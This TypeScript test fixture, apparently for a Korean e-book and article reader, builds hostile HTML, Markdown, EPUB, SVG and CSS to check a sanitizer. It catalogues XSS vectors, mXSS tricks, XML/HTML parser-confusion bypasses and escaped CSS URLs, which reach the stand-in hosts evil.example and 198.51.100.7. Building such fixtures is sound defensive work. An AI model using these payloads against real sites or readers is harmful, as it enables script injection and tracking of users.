// Hostile markup for articles, Markdown and EPUB sections: every way a page can try to run code or
// reach the network. Every attempt to run code sets `__changmunPwned` (on the page or its parent)
// to a name saying which one ran; every attempt to reach the network names a host that must never
// be asked for: a name (DNS would be needed) or a literal address (no DNS needed at all).
//
// Words in visible text are there to be found by search; words only inside scripts, styles or
// hidden places (PWNSCRIPTTEXT) must never be indexed.

/** Addresses the hostile files point at. 198.51.100.0/24 and 2001:db8::/32 are for documentation. */
export const REMOTE_HOSTS = ['evil.example', '198.51.100.7', '[2001:db8::7]'] as const;
/** A word that appears only inside scripts: finding it in the index would mean scripts were read as text. */
export const SCRIPT_WORD = 'PWNSCRIPTTEXT';
export const PWNED = '__changmunPwned';

const ip = 'http://198.51.100.7';
const ip6 = 'http://[2001:db8::7]';
const host = 'http://evil.example';

/** An HTML article with scripts, handlers, frames, plugins, base, refresh, remote images and CSS. */
export function hostileArticleHtml(): string {
  return `<!DOCTYPE html>
<html lang="ko">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=${ip}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="set-cookie" content="tracked=1">
<base href="${ip}/">
<title>적대적 기사 HOSTILEARTICLE</title>
<link rel="stylesheet" href="${host}/a.css">
<link rel="dns-prefetch" href="//evil.example">
<link rel="preconnect" href="${ip}">
<link rel="prefetch" href="${ip6}/prefetch">
<link rel="icon" href="${ip}/favicon.ico">
<style>
  @import url("${ip}/import.css");
  @import '${host}/import2.css';
  @font-face { font-family: Remote; src: url(${ip}/font.woff2); }
  body { background: url(//evil.example/bg.png); font-family: Remote, serif; }
  .pic { background-image: image-set("${ip}/set.png" 1x); }
  .after::after { content: url(${ip6}/after.png); }
</style>
<script>window.${PWNED} = 'head-script ${SCRIPT_WORD}'</script>
<script src="${ip}/evil.js"></script>
<script type="module">import '${host}/module.js'; window.${PWNED} = 'module-script'</script>
</head>
<body onload="window.${PWNED} = 'body-onload'">
<nav><a href="${host}/">처음으로</a></nav>
<h1 onclick="window.${PWNED} = 'h1-onclick'">위험한 글 시험 HOSTILEARTICLE</h1>
<p class="pic after" onmouseover="window.${PWNED} = 'p-onmouseover'">이 글은 스크립트와 바깥 주소로 가득합니다. 보이는낱말 VISIBLEWORD 만 읽혀야 합니다.</p>
<img src="${ip}/x.png" onerror="window.${PWNED} = 'img-onerror'" alt="바깥 그림">
<img src="does-not-exist.png" onerror="window.${PWNED} = 'img-onerror-local'" alt="없는 그림">
<img srcset="${host}/1.png 1x, ${ip6}/2.png 2x" alt="바깥 그림 묶음">
<img src="//evil.example/protocol-relative.png" alt="프로토콜 상대 주소">
<picture><source srcset="${ip}/source.webp"><img src="${ip}/picture.png" alt="picture"></picture>
<p><a id="js-link" href="javascript:window.${PWNED} = 'javascript-link'">누르면안됨CLICKME</a>
<a href="JaVaScRiPt:window.${PWNED} = 'javascript-link-case'">대소문자</a>
<a href="${host}/track" target="_blank" ping="${ip}/ping">바깥 고리</a>
<a href="data:text/html,&lt;script&gt;opener.${PWNED}='data-link'&lt;/script&gt;" target="_blank">data 고리</a></p>
<iframe src="${ip}/frame.html" title="바깥 틀"></iframe>
<iframe srcdoc="&lt;script&gt;parent.${PWNED} = 'iframe-srcdoc'&lt;/script&gt;" title="안쪽 틀"></iframe>
<iframe src="javascript:parent.${PWNED} = 'iframe-javascript'"></iframe>
<object data="${ip}/plugin.swf" type="application/x-shockwave-flash"></object>
<embed src="${host}/plugin.swf">
<svg width="20" height="20" onload="window.${PWNED} = 'svg-onload'"><script>window.${PWNED} = 'svg-script'</script><image href="${ip}/svg.png" width="5" height="5"/><a href="javascript:window.${PWNED} = 'svg-link'"><text y="10">svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.${PWNED} = 'mxss-math'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.${PWNED}='mxss-noscript'>"></p></noscript>
<form action="${ip}/collect" method="post"><input name="q" autofocus onfocus="window.${PWNED} = 'input-autofocus'"><button formaction="javascript:window.${PWNED} = 'formaction'">보내기</button></form>
<details open ontoggle="window.${PWNED} = 'details-ontoggle'"><summary>펼침</summary>펼친 글</details>
<video src="${host}/video.mp4" poster="${ip}/poster.jpg" autoplay onplay="window.${PWNED} = 'video-onplay'"></video>
<audio src="${ip6}/sound.mp3" autoplay></audio>
<p style="background: url(${ip}/inline.png)">인라인 스타일 INLINESTYLE</p>
<div style="width: expression(window.${PWNED} = 'css-expression')">옛 IE 식</div>
<template><p>틀속글자 TEMPLATEWORD</p><script>window.${PWNED} = 'template-script'</script></template>
<div hidden>숨은글자 HIDDENWORD</div>
<p>끝말 FINALWORD</p>
<script>document.body.innerHTML = '<p>changmunPwned</p>'; window.${PWNED} = 'tail-script'</script>
</body>
</html>
`;
}

/** Markdown whose raw HTML does the same; markdown-it keeps raw HTML, the reader must clean it. */
export function hostileMarkdown(): string {
  return `# 마크다운 적대 시험 HOSTILEMARKDOWN

보이는 문단입니다: 마크다운보임 MDVISIBLE.

<script>window.${PWNED} = 'md-script ${SCRIPT_WORD}'</script>
<script src="${ip}/md.js"></script>

<img src="${ip}/md.png" onerror="window.${PWNED} = 'md-img-onerror'">

[자바스크립트 고리](javascript:window.${PWNED}='md-js-link') · [바깥 고리](${host}/md) · <a href="javascript:window.${PWNED}='md-raw-js-link'">날 고리</a>

![바깥 그림](${ip}/md-image.png) ![IPv6 그림](${ip6}/md6.png)

<iframe src="${host}/md-frame"></iframe>
<iframe srcdoc="&lt;script&gt;parent.${PWNED}='md-srcdoc'&lt;/script&gt;"></iframe>
<object data="${ip}/md.swf"></object>

<style>@import url(${ip}/md.css); body { background: url(${host}/md-bg.png) }</style>
<link rel="stylesheet" href="${ip}/md-link.css">
<base href="${ip}/">
<meta http-equiv="refresh" content="0; url=${host}/md-refresh">

<svg onload="window.${PWNED}='md-svg-onload'"><script>window.${PWNED}='md-svg-script'</script></svg>

<div style="background: url(${ip}/md-inline.png)">스타일이 있는 문단 MDSTYLED</div>

<details open ontoggle="window.${PWNED}='md-details'"><summary>요약</summary>내용</details>

<input autofocus onfocus="window.${PWNED}='md-autofocus'">

## 둘째 절

마지막 문단 MDFINAL.
`;
}

/** An EPUB section (well-formed XHTML, as epub.js parses it as XML) trying everything. */
export function hostileSectionXhtml(title: string, visible: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:svg="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xml:lang="ko">
<head>
<title>${title}</title>
<meta http-equiv="refresh" content="0; url=${ip}/epub-refresh"/>
<base href="${ip}/"/>
<link rel="stylesheet" type="text/css" href="style.css"/>
<link rel="stylesheet" type="text/css" href="${host}/remote.css"/>
<style type="text/css">
  @import url("${ip}/epub-import.css");
  @font-face { font-family: Remote; src: url("${ip6}/epub-font.woff"); }
  body { background: url(${host}/epub-bg.png); font-family: Remote; }
</style>
<script type="text/javascript">window.${PWNED} = 'epub-head-script ${SCRIPT_WORD}'; parent.${PWNED} = 'epub-head-script-parent'</script>
<script type="text/javascript" src="${ip}/epub.js"></script>
</head>
<body onload="parent.${PWNED} = 'epub-body-onload'">
<h1 onclick="parent.${PWNED} = 'epub-h1-onclick'">${title}</h1>
<p onmouseover="parent.${PWNED} = 'epub-p-onmouseover'">${visible}</p>
<p><img src="${ip}/epub-image.png" alt="바깥 그림" onerror="parent.${PWNED} = 'epub-img-onerror'"/></p>
<p><a href="javascript:parent.${PWNED} = 'epub-javascript-link'">누르지 마세요</a> · <a href="${host}/" target="_blank">바깥 고리</a></p>
<iframe src="${ip}/epub-frame.html"></iframe>
<object data="${ip}/epub-plugin.swf" type="application/x-shockwave-flash"></object>
<svg:svg width="20" height="20" onload="parent.${PWNED} = 'epub-svg-onload'"><svg:script>parent.${PWNED} = 'epub-svg-script'</svg:script><svg:image xlink:href="${ip}/epub-svg.png" width="5" height="5"/></svg:svg>
<form action="${ip}/epub-collect"><p><input autofocus="autofocus" onfocus="parent.${PWNED} = 'epub-input-autofocus'"/></p></form>
<p style="background: url(${ip}/epub-inline.png)">끝 문장입니다.</p>
</body>
</html>
`;
}

/** A CSS file inside a book reaching out. */
export function hostileBookCss(): string {
  return `@import url("${ip}/book-import.css");
@import '${host}/book-import2.css';
@font-face { font-family: BookRemote; src: url(${ip}/book-font.woff2) format("woff2"); }
body { background-image: url("${host}/book-bg.png"); }
h1 { font-family: BookRemote, serif; }
`;
}

/** An SVG with script, for a spine item and for a cover image. */
export function hostileSvg(label: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="400" viewBox="0 0 300 400" onload="parent.${PWNED} = '${label}-onload'">
<script type="text/javascript">parent.${PWNED} = '${label}-script'; window.${PWNED} = '${label}-script'</script>
<rect width="300" height="400" fill="#335"/>
<image xlink:href="${ip}/${label}.png" width="100" height="100"/>
<text x="20" y="200" fill="#fff" font-size="24">${label}</text>
</svg>
`;
}

// ---- Books that try to reach the network past the section sanitizer (issue 12 §3) ------------
// epub.js parses a section as XML, the sanitizer cleans that document, and epub.js then writes it
// out and hands it to a frame as HTML (srcdoc), where names lose their case, namespaces are
// forgotten, and comments, processing instructions and CDATA end at other places. Every trick below
// is well-formed XML that is harmless as XML and live once read as HTML, or CSS whose addresses only
// read as addresses once escapes are decoded. Every address names evil.example (a lookup) or
// 198.51.100.7 (no lookup needed); none may be asked for.

/** CSS hiding its remote references behind escapes, capitals, custom properties and image-set(). */
export function hostileEscapedCss(): string {
  return `@\\69mport url("${ip}/esc-import.css");
@IMPORT "http\\3a //evil.example/esc-import2.css";
@import url("data:text/css,body%7Bbackground:url(http://evil.example/esc-data-import.png)%7D");
@font-face { font-family: EscRemote; src: u\\72l(${host}/esc-font.woff2) format("woff2"); }
@font-face { font-family: EscRemote2; src: url("http\\3a //198.51.100.7/esc-font2.woff"); }
body { font-family: EscRemote, EscRemote2, serif; --pic: url(//evil.example/esc-var.png); background-image: var(--pic); }
h1 { background: U\\52 L(${ip}/esc-h1.png); }
p { background-image: image-set("${host}/esc-set.png" 1x); }
p:first-child { border-image: -webkit-image-set(url(//evil.example/esc-webkit.png) 1x) 30; }
li { list-style-image: url("h\\9 ttp://evil.example/esc-tab.png"); cursor: url(${host}/esc-cursor.cur), auto; }
`;
}

/** A page of a book with a word to find, and `hostile` markup around it. */
function reachSection(title: string, word: string, head: string, body: string, extraNs = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"${extraNs} xml:lang="ko" lang="ko">
<head>
<title>${title}</title>
${head}
</head>
<body>
<h1>${title}</h1>
<p>이 쪽의 낱말은 ${word} 입니다. 책은 바깥에 아무것도 묻지 않아야 합니다.</p>
${body}
<p>끝 문장, ${word} 다시 한 번.</p>
</body>
</html>
`;
}

/** Names in capitals, which XML keeps and HTML folds: SRC, HREF, HTTP-EQUIV, IFRAME. */
export function reachCaseSection(word: string): string {
  return reachSection('대문자 이름 REACHCASE', word, `<meta HTTP-EQUIV="refresh" CONTENT="0; url=${host}/case-refresh"/>
<META http-equiv="Refresh" content="1; URL=${ip}/case-refresh2"/>
<Base HREF="${host}/case-base/"/>
<link REL="stylesheet" HREF="${host}/case.css"/>
<link rel="stylesheet" href="${ip}/case-lower.css"/>
<link rel="dns-prefetch" HREF="//evil.example"/>
<link rel="preconnect" HREF="${ip}"/>
<link rel="prefetch" HREF="${host}/case-prefetch"/>
<link rel="preload" as="image" HREF="${host}/case-preload.png"/>`, `<p><a HREF="${host}/case-link" PING="${host}/case-ping">바깥 고리</a> · <a href="${host}/case-lower-link">또 바깥 고리</a></p>
<p><img SRC="${host}/case-img.png" alt="바깥 그림"/> <img src="cover.png" SRCSET="${host}/case-srcset.png 2x" alt="그림 묶음"/></p>
<iframe SRC="${host}/case-iframe" title="바깥 틀"></iframe>
<IFRAME src="${ip}/case-IFRAME" title="대문자 틀"></IFRAME>
<iframe srcdoc="&lt;img src=${host}/case-srcdoc.png&gt;" title="안쪽 틀"></iframe>
<object DATA="${host}/case-object" type="text/html"></object>
<embed SRC="${host}/case-embed" type="text/html"/>
<video SRC="${host}/case-video.mp4" POSTER="${host}/case-poster.png" controls="controls"></video>
<audio controls="controls"><source SRC="${host}/case-audio.mp3" type="audio/mpeg"/><track SRC="${host}/case-track.vtt" kind="captions"/></audio>
<form ACTION="${host}/case-form"><p><input type="image" SRC="${host}/case-input.png" alt="보내기"/></p></form>
<table BACKGROUND="${host}/case-table.png"><tr><td>표</td></tr></table>`);
}

/** Markup that XML hides and HTML shows: comments, processing instructions, CDATA, other namespaces. */
export function reachParserSection(word: string): string {
  return reachSection('읽는 법이 다른 곳 REACHPARSER', word, '', `<!--> <iframe src="${host}/comment-iframe"></iframe> -->
<p>처리 지시 뒤 <?changmun > <iframe src="${host}/pi-iframe"></iframe> ?> 글자</p>
<p><![CDATA[ > <iframe src="${host}/cdata-iframe"></iframe> ]]></p>
<iframe xmlns="urn:x-changmun:not-xhtml" src="${host}/ns-iframe"></iframe>
<image xmlns="urn:x-changmun:not-xhtml" src="${host}/image-tag.png"/>
<div><template shadowrootmode="open"><img src="${host}/shadow-img.png" alt=""/></template>그림자 글</div>
<noscript><img SRC="${host}/noscript.png" alt=""/></noscript>`);
}

/** SVG and MathML: href, xlink:href, upper-case and re-bound prefixes, animations, url() in attributes. */
export function reachSvgSection(word: string): string {
  const svg = 'http://www.w3.org/2000/svg';
  return reachSection('그림 언어 REACHSVG', word, `<style type="text/css">rect.pat { fill: u\\72l(${host}/svg-style-fill.svg#p); }</style>`, `<svg xmlns="${svg}" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" viewBox="0 0 120 60">
<image href="${host}/svg-image-href.png" width="10" height="10"/>
<image xlink:href="${host}/svg-image-xlink.png" x="10" width="10" height="10"/>
<image HREF="${ip}/svg-image-HREF.png" x="20" width="10" height="10"/>
<use href="${host}/svg-use.svg#a"/>
<use xlink:href="//evil.example/svg-use-xlink.svg#a"/>
<filter id="f1"><feImage href="${host}/svg-feimage.png"/><feImage xlink:href="${ip}/svg-feimage-xlink.png"/></filter>
<image x="30" width="10" height="10"><set attributeName="href" to="${host}/svg-set.png"/></image>
<image x="40" width="10" height="10"><animate attributeName="xlink:href" values="${host}/svg-animate.png" dur="1s"/></image>
<rect class="pat" x="50" width="10" height="10" fill="url(${host}/svg-fill.svg#p)" style="filter: u\\72l(${host}/svg-filter.svg#f)"/>
<a href="${host}/svg-link"><text x="60" y="40">고리</text></a>
<img SRC="${host}/svg-breakout.png" alt=""/>
</svg>
<svg xmlns="${svg}" xmlns:XLINK="http://www.w3.org/1999/xlink" width="20" height="20"><image XLINK:HREF="${host}/ns-upper-xlink.png" width="10" height="10"/></svg>
<svg xmlns="${svg}" xmlns:xlink="urn:x-changmun:not-xlink" width="20" height="20"><image xlink:href="${host}/ns-fake-xlink.png" width="10" height="10"/></svg>
<svg xmlns="${svg}" xmlns:l="http://www.w3.org/1999/xlink" width="20" height="20"><image l:href="${host}/ns-l-prefix.png" width="10" height="10"/></svg>
<s:svg xmlns:s="${svg}" xmlns:x="http://www.w3.org/1999/xlink" width="20" height="20"><s:image x:href="${host}/ns-prefixed-element.png" width="10" height="10"/></s:svg>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="${host}/math-href">x</mi><mglyph src="${host}/math-mglyph.png"/><semantics><mi>y</mi><annotation-xml encoding="application/xhtml+xml"><img xmlns="http://www.w3.org/1999/xhtml" SRC="${host}/math-annotation.png" alt=""/></annotation-xml></semantics></math>`);
}

/** CSS escapes in a <style>, in style="" and behind a comment the style sheet's text leaves out. */
export function reachCssSection(word: string): string {
  return reachSection('꾸밈 글 REACHCSS', word, `<link rel="stylesheet" type="text/css" href="escaped.css"/>
<style type="text/css">${hostileEscapedCss()}</style>
<style type="text/css"><!--}body{background:url(${host}/style-comment.png)}--></style>`, `<p style="background: u\\72l(${host}/attr-esc.png)">꾸밈 하나</p>
<div style="background-image: image-set('http\\3a //evil.example/attr-set.png' 1x)">꾸밈 둘</div>
<p><span style="--x: url(//evil.example/attr-var.png); background: var(--x)">꾸밈 셋</span></p>
<ul><li>목록 하나</li><li>목록 둘</li></ul>`);
}
